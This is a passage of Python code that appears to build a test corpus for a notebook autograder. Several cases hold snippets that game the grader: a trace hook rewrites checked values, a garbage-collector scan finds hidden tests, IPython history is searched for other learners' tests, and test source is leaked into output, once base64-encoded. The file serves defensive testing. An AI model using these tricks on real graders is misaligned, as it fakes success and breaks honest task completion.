        points=NONE,
        needs_review=True,
    ),
    Case(
        "trace-arguments",
        "a trace function that changes what checks compare",
        "settrace で checks の引数を書きかえる",
        cheat(
            """
            import sys
            def trace(frame, event, arg):
                if frame.f_code.co_name in ('number', 'frame') and 'expected' in frame.f_locals:
                    frame.f_locals['value'] = frame.f_locals['expected']
            sys.settrace(trace)
            """,
        ),
        points=NONE,
        needs_review=True,
        assignment="checked",
    ),
    Case(
        "profile-hook",
        "a profile function on every call (with right answers)",
        "setprofile ですべての呼び出しをのぞく",
        code(
            """
            import sys
            seen = []
            sys.setprofile(lambda frame, event, arg: seen.append(frame.f_code.co_name))
            """,
        ),
    ),
    Case(
        "garbage-collector",
        "searches all objects for hidden tests before they run",
        "gc で、これから動く隠しテストを探す",
        code(
            """
            import gc
            gc.unfreeze()
            word = 'kaku' + 'shi_kotae'
            found = [o for o in gc.get_objects() if type(o) is dict and word in str(o.keys())]
            found += [s for o in gc.get_objects() if type(o) in (list, tuple) for s in o
                      if type(s) is str and word in s]
            print('BREACH' if found else 'nothing', found[:1])
            """,
        ),
    ),
    Case(
        "history",
        "reads the history for tests of this and earlier learners",
        "履歴から、ほかのセルや人のテストを読む",
        code(
            """
            print(In[-3:], list(get_ipython().history_manager.search('*kaku*'))[:5])
            %history -g kaku
            """,
        ),
    ),
    Case(
        "reads-test-ahead",
        "reads each test before it runs and copies the expected values",
        "テストが動く直前に読み、正解を写す",
        cheat(
            _AHEAD,
        ),
        points=FULL,
        known_limit=_SAME_PROCESS,
    ),
    Case(
        "reads-its-caller",
        "a function that looks up the expected value in its caller",
        "呼び出し元から正解を読む関数",
        cheat(
            q2=_CALLER,
        ),
        points=only("q2"),
        assignment="checked",
        known_limit=_SAME_PROCESS,
    ),
    Case(
        "says-test-source",
        "puts the running test's source into the message that it is shown",
        "動いているテストの文を、自分へのメッセージに入れる",
        cheat(
            q2=_SAY_SOURCE.replace("@module@", "sys").replace("@encode@", "In[-1]"),
        ),
        points=NONE,
    ),
    Case(
        "says-test-source-coded",
        "the same, written in another alphabet",
        "テストの文を、別の文字に直してメッセージに入れる",
        cheat(
            q2=_SAY_SOURCE.replace("@module@", "base64").replace(
                "@encode@", "base64.b64encode(In[-1].encode()).decode()"
            ),
        ),
        points=NONE,
        assignment="checked",
        known_limit=_SAME_PROCESS,
    ),
    Case(
        "wrong-answers",
        "nothing: simply wrong (for comparison)",
        "何もしない（間違いだけ。比べるため）",
        cheat(),
        points=NONE,
        assignment="checked",
    ),
]

CORPUS: tuple[Case, ...] = (
    *ESCAPES, *RESOURCES, *KERNEL, *OUTPUT, *PAGES, *FILES, *NOTEBOOKS, *CHEATS,
)  # fmt: skip


def write_hand_ins(folder: Path, cases: tuple[Case, ...], targets: Targets) -> None:
    """Write three honest hand-ins for each assignment, and these cases."""
    for learner in HONEST:
        for assignment in ("plain", "checked"):
            path = folder / learner / f"{assignment}.ipynb"
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(factory.to_bytes(hand_in(assignment, RIGHT)))
    for case in cases:
        case.place(folder, targets, case)


def encodings_of(word: str) -> tuple[str, ...]:
    """A word, and how it looks written backwards and in hexadecimal (base64 depends on its place)."""
    coded = {base64.b64encode(b"x" * n + word.encode()).decode()[4:-4] for n in range(3)}
    return (word, word[::-1], word.encode().hex(), *sorted(coded))
